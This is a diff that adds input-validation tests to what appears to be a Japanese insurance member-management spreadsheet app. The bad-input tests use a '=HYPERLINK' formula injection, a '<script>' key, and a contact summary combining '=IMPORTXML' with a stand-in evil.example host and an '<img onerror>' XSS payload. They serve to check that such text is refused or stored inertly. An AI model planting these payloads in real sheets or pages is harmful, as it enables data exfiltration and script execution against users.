@@ -144,3 +144,89 @@ it('confirms facts by the insurer’s answer, for managers only, and a set-up ke
   });
   expect(await call('setUpWorkbook')).toMatchObject({ created: [], added: 0, updated: 0, kept: [] });
 });
+
+describe('bad input', () => {
+  const sent = { memberKey: 'D-002/GH', program: 'GH', carried: [], unconfirmed: [] };
+  const choice = (option: string) => ({ kind: 'choice', option });
+  const drafts = () => rows('告知回答').filter((row) => row['会員番号'] === 'D-002');
+
+  it('refuses what no question takes, with its number, and keeps the draft that stands', async () => {
+    const answers = { CARD: choice('no') };
+    expect(await call('saveDisclosureDraft', { ...sent, revision: 0, answers })).toMatchObject({ ok: true });
+    const before = drafts();
+    const long = '長'.repeat(100_000);
+    const refusals = {
+      followUpClosed: { ...answers, POLICY: choice('no'), POLICY_OFFICE: choice('yes') },
+      optionUnknown: { CARD: choice(`=HYPERLINK("x")<b>${long}`) },
+      answerTooLong: { REV: { kind: 'revenue', text: long, fiscalMonth: '2026-03' } },
+      questionUnknown: { '<script>': choice('yes') },
+      answerUnreadable: { CARD: long },
+    };
+    for (const [code, bad] of Object.entries(refusals)) {
+      const answer = await call<{ ok: boolean; problems: { code: string; message: string }[] }>(
+        'saveDisclosureDraft',
+        { ...sent, revision: 1, answers: bad },
+      );
+      expect([code, answer.ok]).toEqual([code, false]);
+      if (code === 'followUpClosed') continue;
+      expect(answer.problems.map((problem) => problem.code)).toEqual([code]);
+      // A message is read by a person: it never carries a hundred thousand characters back.
+      expect(answer.problems[0]!.message.length).toBeLessThan(300);
+    }
+    expect(drafts()).toEqual(before);
+  });
+
+  it('a refused finish leaves the saved draft as it is', async () => {
+    const before = drafts();
+    const answers = { CARD: choice('no') };
+    const done = await call('finishDisclosure', { ...sent, revision: 1, answers });
+    expect(done).toMatchObject({ ok: false, problems: [{ code: 'preCheckUnanswered' }] });
+    expect(drafts()).toEqual(before);
+    expect(await call('saveDisclosureDraft', { ...sent, revision: 0, answers })).toMatchObject({
+      ok: false,
+      problems: [{ code: 'draftStale' }],
+      stored: { revision: 1 },
+    });
+  });
+
+  it('free text of a contact is a cell of text, whatever it looks like', async () => {
+    const entry = { memberKey: 'D-002/GH', channel: '電話', direction: '受信', entryId: 'bundle-0001' };
+    const summary = '=IMPORTXML("http://evil.example","//a")<img src=x onerror=alert(1)>';
+    expect(await call('recordContact', { ...entry, summary })).toMatchObject({ ok: true });
+    expect(
+      await call('recordContact', { ...entry, entryId: 'bundle-0002', summary: '長'.repeat(100_000) }),
+    ).toMatchObject({ ok: false });
+    expect(rows('対応履歴')).toMatchObject([{ 会員番号: 'D-002', 内容: summary }]);
+    expect(await call('openMember', { memberKey: 'D-002/GH' })).toMatchObject({ contacts: [{ summary }] });
+  });
+});
+
+it('opens a card with a constant number of service calls', async () => {
+  const count = async () => sums((await twin.call('openMember', [{ memberKey: 'D-002/GH' }])).calls);
+  const before = await count();
+  for (const entryId of ['bundle-0003', 'bundle-0004'])
+    await call('recordContact', {
+      memberKey: 'D-002/GH',
+      channel: '訪問',
+      direction: '発信',
+      summary: entryId,
+      entryId,
+    });
+  expect(await count()).toBe(before);
+});
+
+it('explains a premium without the doubts that are confirmed, in two calls more', async () => {
+  const cell = '=PREMIUM_EXPLAIN(300000000,"ALIVE",料率表,DATE(2027,4,1))';
+  const before = twin.evaluate(cell);
+  expect(JSON.stringify(before)).toContain('事業所ごと');
+  const doubt = rows('照会').find((row) => row['対象番号'] === 'ALIVE/unit')!;
+  await call('answerDoubt', {
+    referralNumber: doubt['照会番号'],
+    answer: '法人全体',
+    paper: '回答書',
+    approvedBy: '管理者',
+  });
+  const after = twin.evaluate(cell);
+  expect(JSON.stringify(after)).not.toContain('事業所ごと');
+  expect(JSON.stringify(after)).toContain('年度');
+});
